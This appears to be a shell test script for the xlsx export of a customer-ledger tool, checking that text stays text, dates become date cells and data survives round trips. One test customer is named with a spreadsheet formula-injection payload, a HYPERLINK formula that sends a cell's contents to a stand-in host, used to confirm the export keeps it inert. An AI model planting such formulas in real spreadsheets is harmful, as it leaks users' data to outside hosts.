# export xlsx (SPEC 3, issue 16): one worksheet with the CSV columns, text
# as string cells (phones and ids never numbers, =... never a formula, no
# apostrophe added), dates as date cells.  Round trips: LibreOffice reads
# it back to CSV intact, and gendan imports it into an empty ledger as the
# same records.
. "$TESTDIR/lib.sh"
new_ledger "$TMP/l"
"$GENDAN" add customer 宁波海天贸易有限公司 --id haitian --tier A --phone "+86 138 0013 8000" \
	--email wang@haitian.example --country CN --city 宁波 --tag 展会 --tag 老客户 >/dev/null
"$GENDAN" add customer '=HYPERLINK("http://evil.example/?d="&C2,"x")' --id evil \
	--phone "+86 574 8888 1234" --note "@SUM(1)" >/dev/null
"$GENDAN" add customer "Minus Co" --id 00123 --note "-2+3" --email ops@minus.example >/dev/null
"$GENDAN" set haitian next=2026-12-08 >/dev/null
"$GENDAN" person add haitian 王芳 --role 采购经理 --phone "+86 139 0000 1111" >/dev/null
gd 0 export xlsx
cp "$TMP/out" "$TMP/c.xlsx"
gd 0 export xlsx customer --owner li.lei@example.com
# the same records at the same GENDAN_NOW: the same bytes (the workbook's
# creation time is now, not the wall clock)
sleep 1
cmp -s "$TMP/out" "$TMP/c.xlsx" && ok "--owner: the same records, the same bytes" ||
	not_ok "--owner: the same records, the same bytes"
python3 - "$TMP/c.xlsx" >"$TMP/sheet" <<'PY'
import sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
print(z.read('xl/worksheets/sheet1.xml').decode().replace('<row', '\n<row'))
PY
has "$TMP/sheet" '<row r="1".*<is><t>id</t></is>.*<t>name</t>.*<t>note</t>'
hasnt "$TMP/sheet" '<f>'
has "$TMP/sheet" 't="inlineStr"><is><t>\+86 138 0013 8000</t>'
has "$TMP/sheet" 't="inlineStr"><is><t>=HYPERLINK\("http'
has "$TMP/sheet" 't="inlineStr"><is><t>00123</t>'
hasnt "$TMP/sheet" "<t>'"
# next and created as date cells: serials under a date style
has "$TMP/sheet" '<c r="M[0-9]" s="[1-9]"><v>46364</v></c>'
has "$TMP/sheet" '<c r="L[0-9]" s="[1-9]"><v>46349</v></c>'

# not to a terminal
if command -v script >/dev/null; then
	TERM=xterm script -qec "$GENDAN export xlsx" /dev/null </dev/null >"$TMP/tty" 2>&1
	has "$TMP/tty" "an xlsx file is not for a terminal: gendan export xlsx > FILE.xlsx"
else
	skip "script(1) is not installed"
fi

# back into gendan: an empty ledger gets the same records
"$GENDAN" export csv >"$TMP/before.csv"
mkdir "$TMP/m" && new_ledger "$TMP/m/l"
gd 0 import "$TMP/c.xlsx"
has "$TMP/out" "imported 3 customer records"
"$GENDAN" export csv >"$TMP/after.csv"
check "the same records come back" cmp "$TMP/before.csv" "$TMP/after.csv"
has "$(ls customers/*/evil.yaml)" '^name: =HYPERLINK\("http'
has "$(ls customers/*/00123.yaml)" '^note: "-2\+3"$'

# LibreOffice reads it: Chinese names, +86 phones, formulas as text
if command -v soffice >/dev/null; then
	(cd "$TMP" && soffice -env:UserInstallation="file://$TMP/lo" --headless \
		--convert-to 'csv:Text - txt - csv (StarCalc):44,34,76,1' c.xlsx >/dev/null 2>&1)
	check "LibreOffice wrote a CSV from the export" test -s "$TMP/c.csv"
	# LibreOffice quotes text cells, not numbers or dates
	has "$TMP/c.csv" '^"haitian","宁波海天贸易有限公司","A","active","li.lei@example.com","wang@haitian.example","\+86 138 0013 8000","CN","宁波","展会;老客户",,2026-11-23,2026-12-08,,"王芳","采购经理",'
	has "$TMP/c.csv" '^"evil","=HYPERLINK\(""http://evil.example/\?d=""&C2,""x""\)",.*,"\+86 574 8888 1234",'
	has "$TMP/c.csv" '^"00123","Minus Co",.*,"-2\+3",'
else
	skip "soffice is not installed (apt-get install libreoffice-calc-nogui)"
fi

# a cell over Excel's 32,767 characters: refused naming the record and
# the column (never cut: an edited sheet imported with --update would
# write the cut text back); 32,767 Chinese characters are not too many
python3 -c 'print("name: Long Note Co\nnote: " + "长" * 32767)' >customers/long.yaml
python3 -c 'print("name: Too Long Co\nnote: " + "x" * 32768)' >customers/toolong.yaml
git add customers && git commit -qm "long notes"
gd 1 export xlsx
has "$TMP/err" "^gendan: customer/toolong: column 'note' has 32768 characters; an Excel cell holds at most 32767: use export csv$"
hasnt "$TMP/err" "customer/long:"
check "no partial workbook on stdout" test ! -s "$TMP/out"
gd 0 export csv
has "$TMP/out" "^toolong,Too Long Co,"
rm customers/toolong.yaml && git commit -qam "shorter"
gd 0 export xlsx customer

done_testing
